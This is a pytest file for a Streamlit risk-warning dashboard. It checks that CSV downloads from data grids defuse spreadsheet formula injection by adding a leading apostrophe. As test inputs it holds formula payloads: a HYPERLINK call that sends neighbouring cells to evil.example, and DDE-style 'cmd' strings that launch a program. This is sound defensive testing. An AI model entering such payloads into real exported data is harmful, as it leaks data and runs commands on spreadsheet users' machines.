"""A data grid's CSV download must not carry a formula a spreadsheet would run (attack
review, 2026-12-07).

Streamlit's data grid offers "download as CSV" and quotes only commas, quotes and line
ends. A reviewer's reason typed as ``=HYPERLINK("http://evil.example/?"&A2&B2,"open")``
passed the reason checks and reached the warnings page's decision-trail grid as written:
opened in Excel or LibreOffice, the exported file ran it (and leaked the neighbouring
cells). Every grid now goes through ``dashboard.shell.grid``, which gives such text a
leading apostrophe (``dashboard.text.spreadsheet_safe``).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from dashboard.text import spreadsheet_safe, spreadsheet_safe_text

DASHBOARD = Path(__file__).resolve().parents[1] / "dashboard"
FORMULA = '=HYPERLINK("http://evil.example/?"&A2&B2,"open")'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-3.2%", "-3.2%"),  # a signed number as text stays as it is
        ("+12", "+12"),
        ("- 1,200", "- 1,200"),
        ("patrol confirms the risk", "patrol confirms the risk"),
        ("巡查确认风险", "巡查确认风险"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str, shown: str) -> None:
    assert spreadsheet_safe_text(text) == shown


def test_a_frame_keeps_its_numbers_index_and_columns() -> None:
    frame = pd.DataFrame(
        {"reason": [FORMULA, "ok", None], "score": [-1.5, 2.0, 3.0], "n": [1, 2, 3]},
        index=["a", "b", "c"],
    )
    safe = spreadsheet_safe(frame)
    assert safe["reason"].tolist()[:2] == ["'" + FORMULA, "ok"] and pd.isna(safe["reason"].iloc[2])
    assert safe["reason"].dtype == frame["reason"].dtype
    assert safe["score"].tolist() == [-1.5, 2.0, 3.0] and safe["n"].dtype == frame["n"].dtype
    assert list(safe.index) == ["a", "b", "c"] and frame.loc["a", "reason"] == FORMULA


def test_every_data_grid_of_the_dashboard_goes_through_the_safe_one() -> None:
    """No page draws ``st.dataframe`` itself: only ``dashboard.shell.grid`` does."""
    direct = [
        f"{path.relative_to(DASHBOARD)}:{n}"
        for path in sorted(DASHBOARD.rglob("*.py"))
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"\bst\.dataframe\(", line)
    ]
    assert direct == ["shell.py:" + str(_grid_line())], direct


def _grid_line() -> int:
    lines = (DASHBOARD / "shell.py").read_text(encoding="utf-8").splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("def grid("))
    return next(i for i in range(start, len(lines)) if "st.dataframe(" in lines[i]) + 1


pytest.importorskip("streamlit")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    from testkit.dashboard_demo import dashboard_env, demo_home

    home = tmp_path_factory.mktemp("spreadsheet_safe") / "home"
    city = demo_home(home, n_cells=300, weeks=2, n_cases=40)
    mp = pytest.MonkeyPatch()
    dashboard_env(mp, home, city.store_url)
    yield home
    mp.undo()


def _reviewer_at(lang: str) -> Any:
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    from dashboard import auth

    st.cache_data.clear()
    role, name = auth.DEMO_USERS["reviewer"]
    at = AppTest.from_file(str(DASHBOARD / "app.py"), default_timeout=60)
    at.session_state["user"] = auth.User(username="reviewer", name=name, role=role)
    at.session_state["lang"] = lang
    at.run()
    at.switch_page("pages/warnings.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


@pytest.mark.parametrize(("lang", "index"), [("en", 0), ("zh", 1)])
def test_a_formula_typed_as_a_reason_reaches_the_trail_grid_as_text(
    home: Path, lang: str, index: int
) -> None:
    from dashboard import review
    from riskwarn.store import Store

    store = Store(f"sqlite:///{home / 'serving.db'}")
    ids = {review.short_id(w): str(w) for w in store.warnings()["warning_id"]}
    pick = next(w for w in _reviewer_at(lang).selectbox if str(w.key).startswith("rv_pick"))
    wid = [ids[str(o).split(" · ")[0]] for o in pick.options][index]
    store.review_warning(wid, "dismiss", FORMULA, "reviewer2", 1)
    at = _reviewer_at(lang)
    next(w for w in at.selectbox if str(w.key).startswith("rv_pick")).set_value(wid).run()
    assert not at.exception, [e.value for e in at.exception]
    trail = at.dataframe[-1].value
    cells = [str(v) for v in trail.to_numpy().ravel()]
    assert "'" + FORMULA in cells, cells
    assert FORMULA not in cells
    store.close()
